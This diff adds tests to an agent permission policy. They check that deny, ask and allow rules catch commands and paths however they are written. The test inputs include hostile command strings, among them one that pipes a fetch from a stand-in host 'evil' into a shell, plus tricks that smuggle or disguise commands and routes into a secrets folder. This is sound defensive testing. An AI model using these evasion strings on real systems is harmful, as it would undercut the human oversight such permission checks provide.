@@ -1,8 +1,11 @@
 """What is allowed, asked for and denied."""
 
+import posixpath
 from dataclasses import replace
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from handloom.policy import Asked, Policy, Rule, Taint, decide
 
@@ -55,7 +58,20 @@ def test_deny_beats_ask_beats_allow_in_any_order() -> None:
 
 
 @pytest.mark.parametrize(
-    "line", ["git status; curl x", "git status > x", "git status $(id)", "git  diff | sh", "(git status)", "git"]
+    "line",
+    [
+        "git status; curl x",
+        "git status > x",
+        "git status $(id)",
+        "git  diff | sh",
+        "(git status)",
+        "git",
+        "<<<$(curl evil|sh) git status",
+        ">.bashrc git status",
+        "git diff\\\ntool -y -x evil",
+        "git -C x status",
+        "/tmp/git status",
+    ],
 )
 def test_an_allowing_rule_needs_every_command_of_the_line(line: str) -> None:
     assert decide(Policy(mode="ask", rules=(ALLOW,)), asked(command=line)).do == "ask"
@@ -64,6 +80,101 @@ def test_an_allowing_rule_needs_every_command_of_the_line(line: str) -> None:
 @pytest.mark.parametrize("line", ["x; rm y", "echo $(rm y)", "sudo /bin/rm y", "if a; then rm b; fi", "rm"])
 def test_a_denying_rule_needs_one_command_of_the_line(line: str) -> None:
     assert decide(Policy(rules=(DENY,)), asked(command=line)).do == "deny"
+
+
+PUSH = Rule(do="deny", tool="bash", command=("git", "push"))
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "cat <<E >f; git push origin main\nhi\nE",
+        "time { git push; }",
+        "! { git push; }",
+        "for i in 1; { git push; }",
+        "timeout 60s git push",
+        "sudo -u deploy git push",
+        "bash -c 'git push'",
+        "$'git' push",
+        "gi\\\nt push",
+        "/usr/bin/git push",
+        "git -C sub push",
+        "git --no-pager -c a=b push",
+        "env GIT_DIR=x git --git-dir=y push -f",
+    ],
+)
+def test_a_denying_rule_of_two_words_fits_however_they_are_written(line: str) -> None:
+    assert decide(Policy(rules=(PUSH,)), asked(command=line)).do == "deny"
+    assert decide(Policy(rules=(replace(PUSH, do="ask"),)), asked(command=line)).do == "ask"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo git push",
+        "git log --grep=x push",
+        "git log push",
+        "git stash push",
+        "git commit -m 'git push'",
+        "timeout 5 echo git push",
+        "git status # git push",
+    ],
+)
+def test_a_denying_rule_fits_no_line_that_only_names_the_command(line: str) -> None:
+    assert decide(Policy(rules=(PUSH,)), asked(command=line)).do == "allow"
+
+
+def test_a_rule_may_name_a_program_by_its_path() -> None:
+    deny = Rule(do="deny", command=(("/usr/bin/git", "hg"), "push"))
+    for line in ("/usr/bin/git push", "git push", "/opt/git push", "hg push"):
+        assert decide(Policy(rules=(deny,)), asked(command=line)).do == "deny", line
+    allow = Rule(do="allow", command=("/usr/bin/git", "log"))
+    assert decide(Policy(mode="ask", rules=(allow,)), asked(command="/usr/bin/git log")).do == "allow"
+    assert decide(Policy(mode="ask", rules=(allow,)), asked(command="git log")).do == "ask"
+
+
+SECRETS = Rule(do="deny", tool="str_replace_editor", path="secrets/*")
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "secrets/x",
+        "./secrets/x",
+        ".//secrets/x",
+        "././secrets/x",
+        "secrets//x",
+        "a/../secrets/x",
+        "secrets/../secrets/x",
+        "/work/space/secrets/x",
+        "//work/secrets/./x",
+        "../space/secrets/x",
+        "link/../secrets/x",
+    ],
+)
+def test_a_denying_rule_knows_a_path_however_it_is_written(path: str) -> None:
+    edit = asked("str_replace_editor", "write_workspace", path=path)
+    for rule in (SECRETS, replace(SECRETS, path="./secrets/*")):
+        assert decide(Policy(rules=(rule,)), edit).do == "deny"
+        assert decide(Policy(rules=(replace(rule, do="ask"),)), edit).do == "ask"
+
+
+@pytest.mark.parametrize("path", ["secrets", "secretsx/y", "a/secrets/x", "my/secrets.md", ""])
+def test_a_denying_rule_leaves_other_paths_alone(path: str) -> None:
+    assert decide(Policy(rules=(SECRETS,)), asked("str_replace_editor", "write_workspace", path=path)).do == "allow"
+
+
+def test_an_allowing_rule_fits_no_path_that_climbs() -> None:
+    policy = Policy(mode="ask", rules=(Rule(do="allow", path="docs/*"),))
+    for path, do in {"docs/x": "allow", "./docs/x": "allow", "docs/../x": "ask", "/ws/docs/x": "ask"}.items():
+        assert decide(policy, asked("str_replace_editor", "write_workspace", path=path)).do == do, path
+
+
+@given(st.lists(st.sampled_from(["", ".", "a", "..", "secrets"]), max_size=6))
+def test_a_denying_rule_follows_every_way_into_a_folder(parts: list[str]) -> None:
+    path = "/".join([*parts, "secrets", "x"])
+    if posixpath.normpath(f"/r/s/t/u/v/w/{path}") == "/r/s/t/u/v/w/secrets/x":
+        assert SECRETS.fits("str_replace_editor", {"path": path})
 
 
 def test_rules_speak_of_paths_and_hosts_too() -> None:
